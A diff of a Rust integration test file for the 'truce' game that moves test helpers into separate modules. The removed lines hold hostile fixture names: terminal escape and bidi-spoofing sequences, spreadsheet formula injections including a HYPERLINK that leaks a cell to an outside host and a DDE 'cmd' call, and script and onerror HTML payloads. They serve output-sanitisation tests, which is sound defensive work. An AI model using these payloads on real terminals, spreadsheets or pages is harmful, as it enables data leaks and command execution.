@@ -13,179 +13,16 @@
 use std::fs;
 use std::os::unix::fs::{FileTypeExt, PermissionsExt};
 use std::path::{Path, PathBuf};
-use std::process::{Command, Output, Stdio};
-use std::sync::Arc;
-use std::time::{Duration, Instant};
 
-use truce::engine::Game;
-use truce::persist::{self, GameInfo, SaveStore};
-use truce::scenario::{self, Scenario};
-use truce::sim::{self, Strategy};
+use truce::persist::{self, SaveStore};
 
-// ---------------------------------------------------------------------------------------------
-// Generators.
+#[path = "fixtures/hostile/output.rs"]
+mod generate;
+#[path = "hostile_output/read.rs"]
+mod read;
 
-/// Names that would drive a terminal if printed raw: clear the screen, set the window title,
-/// write the clipboard (OSC 52), a C1 CSI, and the right-to-left override that makes
-/// `evil<U+202E>txt.exe` read `evilexe.txt`.
-const TERMINAL_ATTACKS: [&str; 5] = [
-    "\u{1b}[2J\u{1b}[Hcleared",
-    "\u{1b}]0;pwned\u{7}title",
-    "\u{1b}]52;c;cHduZWQ=\u{7}clipboard",
-    "\u{9b}31mred",
-    "evil\u{202e}txt.exe\u{2066}x\u{2069}\u{200f}",
-];
-
-/// Names a spreadsheet would run as formulas, or that would break a naive CSV.
-const CSV_ATTACKS: [&str; 9] = [
-    "=HYPERLINK(\"http://x/?leak=\"&A1,\"click\")",
-    "+1",
-    "-2",
-    "@SUM(A1:A9)",
-    "\t=1",
-    "a, b, c",
-    "say \"hi\"",
-    "two\nlines",
-    "\r=cmd|' /C calc'!A0",
-];
-
-/// Names that would forge Markdown: cells, headings, images, links, HTML.
-const MARKDOWN_ATTACKS: [&str; 8] = [
-    "a | b | c",
-    "line\n# Corrected scores\n| Eve | 100 |",
-    "# Corrected scores",
-    "![](http://x/t.png)",
-    "<img src=x onerror=alert(1)>",
-    "<script>alert(1)</script>",
-    "[click](http://x)",
-    "`code` *bold* _em_ ##",
-];
-
-/// The built-in scenario.
-fn builtin() -> Scenario {
-    match scenario::builtin("autumn-2025") {
-        Some(Ok(s)) => s,
-        other => panic!("the built-in scenario must load: {other:?}"),
-    }
-}
-
-/// An honest save of two turns of seed 3 in `s`, as its own game (`start` makes the id),
-/// carrying this save name and player name.
-fn save_of(s: Scenario, start: &str, name: &str, player: Option<&str>) -> String {
-    save_after(s, 2, start, name, player)
-}
-
-/// As `save_of`, after `turns` of a scripted player's turns (all of them: a finished game).
-fn save_after(s: Scenario, turns: usize, start: &str, name: &str, player: Option<&str>) -> String {
-    let r = sim::play(&s, Strategy::Structural, 3);
-    let mut game = Game::new(Arc::new(s), 3);
-    for a in r.actions.iter().take(turns) {
-        game.apply(a.clone()).expect("a scripted action");
-    }
-    let mut info = GameInfo::new(&game.scenario, 3, start);
-    info.name = name.to_string();
-    info.player = player.map(str::to_string);
-    persist::format::to_text(&persist::save_of(&game, &info, "2025-10-30T12:00:00Z"))
-        .expect("serialise")
-}
-
-fn save_named(i: usize, name: &str, player: Option<&str>) -> String {
-    save_of(builtin(), &format!("hostile-{i}"), name, player)
-}
-
-/// A custom scenario whose texts carry HTML, images and headings into a transcript.
-fn scenario_with_markup() -> Scenario {
-    let mut s = builtin();
-    s.name = "custom <script>".into();
-    s.title = "<script>alert(1)</script> # Corrected".into();
-    s.historical.summary = "<img src=x> | ![](http://x/t.png)\n# Corrected scores".into();
-    s.issues[0].short = "a|b".into();
-    s.issues[0].name = "<b>tariffs</b>".into();
-    s
-}
-
-// ---------------------------------------------------------------------------------------------
-// Running the binary.
-
-/// Runs the binary with a temp home and save folder, in `cwd`, under `umask`, with a deadline.
-fn truce_in(home: &Path, cwd: &Path, args: &[&str]) -> Output {
-    let mut child = Command::new(env!("CARGO_BIN_EXE_truce"))
-        .args(args)
-        .env("HOME", home)
-        .env("XDG_DATA_HOME", home.join("xdg"))
-        .env("TRUCE_SAVE_DIR", home.join("saves"))
-        .env("NO_COLOR", "1")
-        .current_dir(cwd)
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        .spawn()
-        .expect("run truce");
-    // Read while it runs: a report can be bigger than a pipe's buffer.
-    let out = std::thread::spawn(move || {
-        let start = Instant::now();
-        loop {
-            if child.try_wait().expect("wait").is_some() {
-                return Some(child.wait_with_output().expect("output"));
-            }
-            if start.elapsed() > Duration::from_secs(60) {
-                let _ = child.kill();
-                return None;
-            }
-            std::thread::sleep(Duration::from_millis(20));
-        }
-    });
-    out.join()
-        .unwrap()
-        .unwrap_or_else(|| panic!("truce {args:?} hung"))
-}
-
-fn truce(home: &Path, args: &[&str]) -> Output {
-    truce_in(home, home, args)
-}
-
-/// Runs the binary through `sh` under this umask.
-fn truce_umask(home: &Path, umask: &str, args: &[&str]) -> Output {
-    Command::new("sh")
-        .arg("-c")
-        .arg(format!("umask {umask}; exec \"$0\" \"$@\""))
-        .arg(env!("CARGO_BIN_EXE_truce"))
-        .args(args)
-        .env("HOME", home)
-        .env("XDG_DATA_HOME", home.join("xdg"))
-        .env("TRUCE_SAVE_DIR", home.join("saves"))
-        .current_dir(home)
-        .output()
-        .expect("run truce through sh")
-}
-
-fn text(bytes: &[u8]) -> String {
-    String::from_utf8_lossy(bytes).into_owned()
-}
-
-/// What a terminal would obey: C0 controls but the line end, DEL, C1, bidi controls.
-fn obeyed(stream: &[u8]) -> Vec<char> {
-    text(stream)
-        .chars()
-        .filter(|&c| {
-            (c.is_control() && c != '\n')
-                || matches!(
-                    c,
-                    '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}'
-                        | '\u{2066}'..='\u{2069}'
-                )
-        })
-        .collect()
-}
-
-fn saves_dir(home: &Path) -> PathBuf {
-    let dir = home.join("saves");
-    fs::create_dir_all(&dir).unwrap();
-    dir
-}
-
-fn mode(path: &Path) -> u32 {
-    fs::metadata(path).unwrap().permissions().mode() & 0o777
-}
+use generate::*;
+use read::*;
 
 // ---------------------------------------------------------------------------------------------
 // Point 2: one output discipline.
@@ -254,48 +91,6 @@ fn names_with_escapes_bidi_and_megabytes_reach_no_terminal_raw() {
     // The capped names are cut visibly.
     let check = text(&truce(home.path(), &["load", "--check", huge.to_str().unwrap()]).stdout);
     assert!(check.contains(&format!("{}…", "n".repeat(119))), "{check}");
-}
-
-/// A tiny RFC 4180 reader: records of fields, quoted fields with doubled quotes and line
-/// breaks inside, records ended by LF or CRLF.
-fn parse_csv(text: &str) -> Vec<Vec<String>> {
-    let mut records = Vec::new();
-    let mut record = Vec::new();
-    let mut field = String::new();
-    let mut chars = text.chars().peekable();
-    let mut quoted = false;
-    let mut started = false;
-    while let Some(c) = chars.next() {
-        if quoted {
-            match c {
-                '"' if chars.peek() == Some(&'"') => {
-                    chars.next();
-                    field.push('"');
-                }
-                '"' => quoted = false,
-                c => field.push(c),
-            }
-            continue;
-        }
-        match c {
-            '"' if field.is_empty() => quoted = true,
-            ',' => record.push(std::mem::take(&mut field)),
-            '\r' if chars.peek() == Some(&'\n') => {}
-            '\n' => {
-                record.push(std::mem::take(&mut field));
-                records.push(std::mem::take(&mut record));
-                started = false;
-                continue;
-            }
-            c => field.push(c),
-        }
-        started = true;
-    }
-    if started {
-        record.push(field);
-        records.push(record);
-    }
-    records
 }
 
 #[test]
@@ -371,53 +166,6 @@ fn csv_of_formula_names_keeps_its_rows_and_guards_every_formula() {
             }
         }
     }
-}
-
-/// The Markdown's structure: headings, and for each table its row count and each row's cells.
-fn headings(md: &str) -> Vec<&str> {
-    md.lines().filter(|l| l.starts_with('#')).collect()
-}
-
-/// Each table (a run of lines starting with `|`): its rows, each split on unescaped pipes.
-fn tables(md: &str) -> Vec<Vec<usize>> {
-    let mut out: Vec<Vec<usize>> = Vec::new();
-    let mut open = false;
-    for line in md.lines() {
-        if line.starts_with('|') {
-            if !open {
-                out.push(Vec::new());
-                open = true;
-            }
-            // Pipes not escaped by an odd run of backslashes.
-            let mut pipes = 0;
-            let mut slashes = 0;
-            for c in line.chars() {
-                if c == '|' && slashes % 2 == 0 {
-                    pipes += 1;
-                }
-                slashes = if c == '\\' { slashes + 1 } else { 0 };
-            }
-            out.last_mut().unwrap().push(pipes);
-        } else {
-            open = false;
-        }
-    }
-    out
-}
-
-/// No HTML, image, link or emphasis from a file: every `<` is written `&lt;`, every `[` and
-/// `` ` `` escaped.
-fn assert_inert(md: &str) {
-    assert!(!md.contains('<'), "raw <: {md}");
-    assert!(!md.contains("!["), "an image: {md}");
-    let mut slashes = 0;
-    for c in md.chars() {
-        if matches!(c, '[' | ']' | '`') {
-            assert!(slashes % 2 == 1, "an unescaped {c}: {md}");
-        }
-        slashes = if c == '\\' { slashes + 1 } else { 0 };
-    }
-    assert!(obeyed(md.as_bytes()).is_empty(), "{md:?}");
 }
 
 #[test]
